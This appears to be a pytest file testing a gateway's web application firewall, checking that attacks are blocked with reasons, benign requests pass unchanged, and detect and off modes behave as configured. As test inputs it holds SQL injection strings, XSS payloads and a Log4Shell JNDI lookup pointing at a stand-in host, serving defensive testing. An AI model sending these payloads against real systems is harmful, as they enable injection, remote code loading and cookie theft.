"""The WAF in the running gateway: on by default, blocking with reasons, never forwarding
an attack, letting ordinary traffic through unchanged."""

from __future__ import annotations

import aiohttp


async def test_default_policy_blocks_attacks_with_reasons(recording_upstream, gateway):
    url, seen = recording_upstream
    gw = await gateway(url, "")
    async with aiohttp.ClientSession() as session:
        async with session.get(gw.url + "/items?id=1%27%20OR%20%271%27%3D%271") as resp:
            assert resp.status == 403
            problem = await resp.json(content_type=None)
        async with session.get(
            gw.url + "/", headers={"X-Api-Version": "${jndi:ldap://evil.example/a}"}
        ) as resp:
            assert resp.status == 403
            log4j = await resp.json(content_type=None)
        async with session.post(
            gw.url + "/comments", json={"text": "<script>alert(document.cookie)</script>"}
        ) as resp:
            assert resp.status == 403
            xss = await resp.json(content_type=None)
        async with session.post(
            gw.url + "/comments", json={"text": "Hello O'Brien, see https://example.com"}
        ) as resp:
            assert resp.status == 200
    assert problem["filter"] == "waf"
    assert problem["reason"] == "attack_detected"
    assert {"ruleId": "waf.942100", "location": "query:id"}.items() <= problem["violations"][
        0
    ].items()
    assert "sqli" in problem["violations"][0]["message"]
    assert any(v["location"] == "header:x-api-version" for v in log4j["violations"])
    assert any(v["location"] == "body:$.text" for v in xss["violations"])
    # The matched value is never echoed back.
    assert "evil.example" not in str(log4j) and "alert(document" not in str(xss)
    # Only the benign request reached the upstream, body unchanged.
    assert [(m, p) for m, p, _ in seen] == [("POST", "/comments")]
    assert b"O'Brien" in seen[0][2]


async def test_detect_mode_lets_attacks_through_and_logs_them(recording_upstream, gateway):
    url, seen = recording_upstream
    gw = await gateway(url, "waf: {mode: detect}")
    async with aiohttp.ClientSession() as session:
        async with session.get(gw.url + "/search?q=%3Cscript%3Ealert(1)%3C/script%3E") as resp:
            assert resp.status == 200
    assert len(seen) == 1
    record = gw.access_records()[-1]
    assert any(
        f.startswith("waf.941") and f.endswith("@query:q") for f in record["wardgate"]["detected"]
    )


async def test_waf_off_removes_the_filter(recording_upstream, gateway):
    url, seen = recording_upstream
    gw = await gateway(url, "waf: {mode: off}")
    assert "waf" not in gw.process.holder.current.filter_names()
    async with aiohttp.ClientSession() as session:
        async with session.get(gw.url + "/?q=%27%20OR%201%3D1--") as resp:
            assert resp.status == 200
    assert len(seen) == 1 and seen[0][1].endswith("OR%201%3D1--")
